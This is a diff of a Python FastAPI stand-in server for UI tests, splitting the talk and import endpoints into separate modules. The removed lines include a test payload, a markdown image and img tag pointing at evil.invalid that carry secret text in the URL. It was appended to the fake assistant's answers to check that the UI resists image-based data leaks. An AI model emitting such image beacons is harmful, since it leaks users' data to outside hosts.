@@ -1,66 +1,21 @@
-"""A small stand-in that speaks the contract over the invented life: answers outlive the page, imports take a while."""
+"""A small stand-in that speaks the contract over the invented life."""
 
-import asyncio
 import json
-import uuid
-from collections.abc import AsyncIterator
-from dataclasses import dataclass, field
 from datetime import UTC, datetime
 from functools import cache
 from typing import Annotated, Any
 
-from fastapi import FastAPI, Header, Request, Response, UploadFile
-from fastapi.responses import JSONResponse, StreamingResponse
-from pydantic_settings import BaseSettings, SettingsConfigDict
+from fastapi import FastAPI, Header, Request, Response
+from fastapi.responses import JSONResponse
 
+from tests.ui.fake_bring import bringing
+from tests.ui.fake_house import PACE, house, now, problem
+from tests.ui.fake_talk import talking
 from tests.ui.invented import DIARY, UNTIL, Json, about, evidence, ident, life, months_between
 
-HOSTILE = "\n\n![](http://evil.invalid/leak.png?q=тайна) <img src=http://evil.invalid/x.png>"
-ANSWER = (
-    "Весной 2024 года на первом месте стояло **«Уйти из банка»** [1]. После увольнения в декабре его место "
-    "заняла **«Открыть гончарную мастерскую»** [2]: сначала она была на паузе, потом вернулась [3]."
-)
-ENGLISH = "In the spring of 2024 **«Уйти из банка»** came first [1]; after December **«Открыть гончарную мастерскую»** took its place [2], first paused, then back [3]."
-CITED = (DIARY[2], DIARY[5], DIARY[4])
-
-
-class Pace(BaseSettings):
-    model_config = SettingsConfigDict(env_prefix="FAKE_")
-
-    token_delay: float = 0.02
-    empty: bool = False
-
-
-@dataclass
-class Run:
-    id: str
-    session: str
-    answer: str
-    events: list[tuple[str, Json]] = field(default_factory=list)
-    changed: asyncio.Condition = field(default_factory=asyncio.Condition)
-    stopped: bool = False
-    over: bool = False
-
-    async def tell(self, event: str, data: Json) -> None:
-        async with self.changed:
-            self.events.append((event, data))
-            self.over = event == "done"
-            self.changed.notify_all()
-
-
-@dataclass
-class House:
-    runs: dict[str, Run] = field(default_factory=dict)
-    talks: dict[str, Json] = field(default_factory=dict)
-    jobs: dict[str, int] = field(default_factory=dict)
-    asked: list[str] = field(default_factory=list)
-    positions: dict[str, Any] = field(default_factory=dict)
-    tasks: set[asyncio.Task[None]] = field(default_factory=set)
-
-
 app = FastAPI()
-house = House()
-PACE = Pace()
+app.include_router(talking)
+app.include_router(bringing)
 
 
 @cache
@@ -69,21 +24,6 @@ def history() -> Json:
     return (
         {**whole, "nodes": [], "edges": [], "since": None, "until": None} if PACE.empty else whole
     )
-
-
-def now() -> str:
-    return datetime.now(UTC).isoformat()  # noqa: TID251 - a stand-in for a server
-
-
-def problem(status: int, title: str) -> JSONResponse:
-    body = {
-        "type": "about:blank",
-        "title": title,
-        "status": status,
-        "detail": title,
-        "instance": "/",
-    }
-    return JSONResponse(body, status_code=status, media_type="application/problem+json")
 
 
 @app.get("/api/health")
@@ -369,194 +309,3 @@ async def document(id: str) -> Json:
         "messages": 3,
         "parts": parts,
     }
-
-
-# -- talking ---------------------------------------------------------------------------------------
-
-
-@app.get("/api/sessions")
-async def sessions() -> Json:
-    return {"items": [whole(id) for id in house.talks], "next": None}
-
-
-def whole(id: str) -> Json:
-    active = next(
-        (run.id for run in house.runs.values() if run.session == id and not run.over), None
-    )
-    return {**house.talks[id], "active_run": active}
-
-
-@app.get("/api/sessions/{id}", response_model=None)
-async def session(id: str) -> Json | JSONResponse:
-    return whole(id) if id in house.talks else problem(404, "Такого разговора нет")
-
-
-@app.delete("/api/sessions/{id}", status_code=204)
-async def drop(id: str) -> None:
-    house.talks.pop(id, None)
-
-
-@app.post("/api/runs", status_code=202)
-async def ask(body: dict[str, Any]) -> Json:
-    question = body["messages"][-1]["content"]
-    id = body.get("session_id") or uuid.uuid4().hex
-    talk = house.talks.setdefault(
-        id,
-        {
-            "id": id,
-            "title": question[:60],
-            "mode": "auto",
-            "kind": "talk",
-            "phase": None,
-            "created": now(),
-            "updated": now(),
-            "digest": None,
-            "messages": [],
-        },
-    )
-    talk["messages"].append(turn("user", question))
-    answer = ENGLISH if body.get("lang") == "en" else ANSWER
-    run = Run(uuid.uuid4().hex, id, answer + HOSTILE)
-    house.runs[run.id] = run
-    task = asyncio.get_running_loop().create_task(speak(run))
-    house.tasks.add(task)
-    task.add_done_callback(house.tasks.discard)
-    return {"run_id": run.id, "session_id": id}
-
-
-def turn(role: str, content: str, **more: Any) -> Json:
-    return {
-        "id": uuid.uuid4().hex,
-        "role": role,
-        "content": content,
-        "date": now(),
-        "strategy": None,
-        "citations": [],
-        "feedback": None,
-        **more,
-    }
-
-
-async def speak(run: Run) -> None:
-    cites = [evidence(one) for one in CITED]
-    strategy: Json = {"name": "answer", "reason": "вопрос о переменах во времени", "scores": {}}
-    await run.tell("strategy", strategy)
-    said = ""
-    for word in run.answer.split(" "):
-        if run.stopped:
-            break
-        await asyncio.sleep(PACE.token_delay)
-        said += word + " "
-        await run.tell("token", {"text": word + " "})
-    house.talks[run.session]["messages"].append(
-        turn("assistant", said, strategy=strategy, citations=cites)
-    )
-    await run.tell("citations", {"items": cites})
-    await run.tell(
-        "done",
-        {
-            "session_id": run.session,
-            "message": {"role": "assistant", "content": said},
-            "citations": cites,
-        },
-    )
-
-
-@app.get("/api/runs/{id}/events")
-async def events(id: str, after: int = 0) -> StreamingResponse:
-    async def stream() -> AsyncIterator[str]:
-        run, n = house.runs[id], after
-        while True:
-            while n < len(run.events):
-                event, data = run.events[n]
-                n += 1
-                yield f"id: {n}\nevent: {event}\ndata: {json.dumps(data, ensure_ascii=False)}\n\n"
-                if event == "done":
-                    return
-            async with run.changed:
-                if n >= len(run.events):
-                    await run.changed.wait()
-
-    return StreamingResponse(stream(), media_type="text/event-stream")
-
-
-@app.delete("/api/runs/{id}", status_code=204)
-async def stop(id: str) -> None:
-    house.runs[id].stopped = True
-
-
-# -- bringing in -----------------------------------------------------------------------------------
-
-
-@app.post("/api/files/upload", response_model=None)
-async def upload(request: Request) -> Json | JSONResponse:
-    form = await request.form()
-    files = [one for one in form.getlist("files") if not isinstance(one, str)]
-    if any(
-        one.filename == "bad.bin"
-        for one in files
-        if isinstance(one, UploadFile) or hasattr(one, "filename")
-    ):
-        return problem(415, "Здесь нет ничего, что можно прочитать.")
-    if form.get("dry_run"):
-        return {
-            "upload_id": "u1", "files": 12, "formats": {"markdown": 9, "telegram": 2, "pdf": 1}, "from": "2021-03-01T00:00:00Z", "to": "2025-10-30T00:00:00Z",
-            "conversations": 14, "messages": 1834, "chunks": 320, "languages": {"ru": 12, "en": 2, "other": 0}, "undated": ["заметка.txt"],
-            "authors": [{"name": "Вера", "messages": 900, "me": True}, {"name": "Света", "messages": 870, "me": False}],
-            "estimate": {"calls": 0, "tokens": 0, "cost_usd": 0, "cost_rub": 0, "minutes": 1.4}, "problems": [{"path": "скан.pdf", "reason": "В файле нет текста"}],
-        }  # fmt: skip
-    id = uuid.uuid4().hex
-    house.jobs[id] = 0
-    house.asked.append(
-        f"upload {form.get('upload_id') or ','.join(str(one.filename) for one in files)}"
-    )
-    return JSONResponse({"job_id": id}, status_code=202)
-
-
-def ingest(id: str) -> Json:
-    step = house.jobs[id] = min(12, house.jobs[id] + 3)
-    status = "done" if step == 12 else "running"
-    stats = {
-        "files_seen": 12,
-        "files_read": 11,
-        "files_failed": 1,
-        "conversations": 14,
-        "messages": step * 150,
-        "statements": step * 9,
-        "entities": step * 4,
-    }
-    return {
-        "job_id": id,
-        "status": status,
-        "progress": {"stage": "observe", "done": step, "total": 12},
-        "stats": stats,
-        "problems": [{"path": "скан.pdf", "reason": "В файле нет текста"}],
-    }
-
-
-@app.get("/api/ingest/{id}")
-async def job(id: str) -> Json:
-    return ingest(id)
-
-
-@app.delete("/api/ingest/{id}", status_code=204)
-async def undo(id: str) -> None:
-    house.jobs.pop(id, None)
-    house.asked.append("undo")
-
-
-@app.get("/api/jobs")
-async def jobs() -> Json:
-    items = [
-        {
-            "id": id,
-            "kind": "import",
-            "status": "done",
-            "progress": {"stage": "done", "done": 1, "total": 1},
-            "created": now(),
-            "updated": now(),
-            "problem": None,
-        }
-        for id in house.jobs
-    ]
-    return {"items": items, "next": None}
